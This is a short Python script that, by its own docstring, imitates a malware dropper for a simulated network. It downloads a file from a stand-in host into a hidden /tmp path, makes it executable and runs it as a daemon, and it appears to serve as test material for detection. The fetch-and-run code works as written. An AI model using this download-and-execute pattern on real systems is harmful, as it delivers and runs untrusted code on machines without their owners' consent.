#!/usr/bin/env python3
"""Imitates a Python dropper: downloads a "binary" from the fake internet into /tmp, makes it executable
and runs it. The fake web answers a tiny ELF that only exits."""
import os
import subprocess
import urllib.request

URL = 'http://cdn.pydropper.test/files/agent.bin'
target = '/tmp/.agent'
with urllib.request.urlopen(URL, timeout=10) as response, open(target, 'wb') as out:
    out.write(response.read())
os.chmod(target, 0o755)
subprocess.run([target, '--daemon'], check=False)
